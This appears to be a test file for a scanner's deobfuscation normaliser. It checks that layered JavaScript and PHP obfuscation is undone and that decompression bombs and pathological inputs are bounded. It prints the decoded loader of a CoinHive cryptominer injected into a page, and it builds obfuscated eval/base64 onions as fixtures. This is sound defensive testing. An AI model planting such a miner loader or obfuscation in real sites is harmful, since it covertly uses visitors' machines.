// Tests the normaliser's rounds and bounds: layers chain techniques in the order they were undone,
// the excerpt shows the decoded loader, repeated decodings are kept once, and nesting, output size,
// layer count and time are bounded, with bombs reported rather than followed.
import vm from 'node:vm';
import { describe, expect, it } from 'vitest';
import { normaliseWeb } from './normalise.js';
import { MINER_LOADER, b64, gzdeflate, obfuscatedLoader, pack } from './test-helpers.js';
import { webHint } from './index.js';

/** Runs the obfuscated loader against a fake browser and returns what it loaded and started. */
function runLoader(code: string): string[] {
  const seen: string[] = [];
  const ctx = vm.createContext({
    atob: (s: string) => Buffer.from(s, 'base64').toString('latin1'),
    document: {
      createElement: () => ({}),
      head: {
        appendChild: (s: { src: string; onload: () => void }) => {
          seen.push(`script ${s.src}`);
          s.onload();
        },
      },
    },
    CoinHive: {
      Anonymous: function (key: string) {
        return { start: () => seen.push(`start ${key}`) };
      },
    },
  });
  vm.runInContext('window = globalThis; window.Function = Function;', ctx);
  vm.runInContext(code, ctx, { timeout: 1000 });
  return seen;
}

describe('normaliseWeb', () => {
  it('undoes a string array, its hex escapes and the base64 payload, and shows the loader', () => {
    const loader = obfuscatedLoader({ style: 'checksum', rotation: 2 });
    expect(runLoader(loader)).toEqual([
      'script https://coinhive.com/lib/coinhive.min.js',
      'start SITE_KEY_0123456789',
    ]);
    const result = normaliseWeb(Buffer.from(`var app = 1;\n${loader}`), 'js');
    const found = result.layers.find((l) => l.text.includes(MINER_LOADER));
    expect(found?.chain).toEqual(['js-string-array', 'js-escapes', 'atob', 'js-concat']);
    expect(result.excerpt).toContain(
      'var s=document.createElement("script");s.src="https://coinhive.com/lib/coinhive.min.js"',
    );
    expect(result.bombs).toBeUndefined();
    expect(result.stopped).toBeUndefined();
  });

  it('chains techniques across rounds: a packed script that hides a base64 payload', () => {
    const inner = `eval(atob('${b64(MINER_LOADER)}'))`;
    const result = normaliseWeb(Buffer.from(`<script>${pack(inner)}</script>`), 'html');
    expect(result.layers.find((l) => l.text.includes(MINER_LOADER))?.chain).toEqual(['js-packer', 'atob']);
  });

  it('keeps a decoding reached two ways once', () => {
    const result = normaliseWeb(Buffer.from(`a(atob('${b64(MINER_LOADER)}'));`), 'js');
    const texts = result.layers.map((l) => l.text);
    expect(new Set(texts).size).toBe(texts.length);
  });

  it('reports a 500-level PHP eval(gzinflate(base64_decode())) onion as a bomb, in bounded time', () => {
    let code = "echo 'bottom';";
    for (let i = 0; i < 500; i++) code = `eval(gzinflate(base64_decode('${b64(gzdeflate(code))}')));`;
    const started = Date.now();
    const result = normaliseWeb(Buffer.from(`<?php ${code} ?>`), 'php');
    expect(Date.now() - started).toBeLessThan(3000);
    expect(result.layers.map((l) => l.depth)).toEqual([1, 2, 3, 4, 5, 6, 7, 8]);
    expect(result.bombs).toEqual([
      'decoding goes on past depth 8 (php:eval(gzinflate(base64_decode)) > php:eval(gzinflate(base64_decode)) > php:gzinflate), not followed',
    ]);
  });

  it('reports base64 nested deeper than the limit as a bomb', () => {
    let code = MINER_LOADER;
    for (let i = 0; i < 24; i++) code = `eval(atob('${b64(code)}'))`;
    const result = normaliseWeb(Buffer.from(code), 'js');
    expect(result.layers.filter((l) => !l.chain.includes('base64')).map((l) => l.depth)).toEqual([
      1, 2, 3, 4, 5, 6, 7, 8,
    ]);
    expect(result.bombs).toEqual(['decoding goes on past depth 8 (atob > atob > atob), not followed']);
  });

  it('reports a decoding that multiplies its input past the output budget as a bomb', () => {
    const bomb = `eval(function(p,a,c,k,e,d){return p}('${'0 '.repeat(100_000)}',62,1,'${'A'.repeat(100)}'.split('|'),0,{}))`;
    const result = normaliseWeb(Buffer.from(bomb), 'js');
    expect(result.layers).toEqual([]);
    expect(result.bombs).toEqual([
      'js-packer: unpacked script exceeds the 1048576-byte output budget left, not followed',
    ]);
  });

  it('ends decoding of a large file whose rewrite does not fit, without calling it a bomb', () => {
    const call = `x(atob('${b64(MINER_LOADER)}'));`;
    const big = Buffer.from(call + ' '.repeat(300_000) + call);
    const result = normaliseWeb(big, 'js', { maxOutputBytes: 200_000, minOutputBytes: 0 });
    expect(result.bombs).toBeUndefined();
    expect(result.stopped).toBe('output budget of 200000 bytes spent');
  });

  it('stops at the layer and time budgets and says so', () => {
    const data = Buffer.from(`a(atob('${b64(MINER_LOADER)}')); var p = '${b64(MINER_LOADER)}';`);
    const few = normaliseWeb(data, 'js', { maxLayers: 1 });
    expect(few.layers).toHaveLength(1);
    expect(few.stopped).toBe('layer budget of 1 reached');
    const none = normaliseWeb(data, 'js', { timeBudgetMs: -1 });
    expect(none.layers).toEqual([]);
    expect(none.stopped).toBe('time budget of -1 ms spent');
  });

  it.each([
    ['a 1 MiB string of escaped quotes', ('"' + '\\'.repeat(7)).repeat(1 << 17)],
    ['nested PHP calls with no argument', 'base64_decode('.repeat(75_000)],
    ['a variable decoded 40,000 times', 'eval(base64_decode($x));'.repeat(40_000)],
    ['64 KiB of broken packer headers', 'eval(function(p,a,c,k,e,d){'.repeat(40_000)],
    [
      'a checksum nested 200,000 parentheses deep',
      `var _0x1a2b=['1a','2b','3c'];(function(a,b){var c=_0x1a2b;while(!![]){try{var d=parseInt(${'('.repeat(200_000)}1${')'.repeat(200_000)});if(d===b)break;else c['push'](c['shift']());}catch(e){c['push'](c['shift']());}}}(_0x1a2b,0x1));`,
    ],
  ])('stays fast on hostile input: %s', (_name, text) => {
    const started = Date.now();
    const result = normaliseWeb(Buffer.from(text, 'latin1'), 'unknown');
    expect(Date.now() - started).toBeLessThan(2500);
    expect(result.stopped ?? '').not.toMatch(/failed/);
  });

  it('leaves inputs over the size limit to the raw scan', () => {
    expect(normaliseWeb(Buffer.alloc(100), 'js', { maxInputBytes: 10 }).stopped).toBe(
      'input of 100 bytes is over 10',
    );
  });
});

describe('webHint', () => {
  it('tells web content by its name', () => {
    expect(['main.js', 'a.mjs', 'index.HTML', 'footer.php', 'x.phtml', 'README.md'].map(webHint)).toEqual([
      'js',
      'js',
      'html',
      'php',
      'php',
      undefined,
    ]);
    // Type declarations hold no code that runs; the raw scan still reads them.
    expect(['index.d.ts', 'x.d.mts', 'app.ts'].map(webHint)).toEqual([undefined, undefined, 'js']);
  });
});
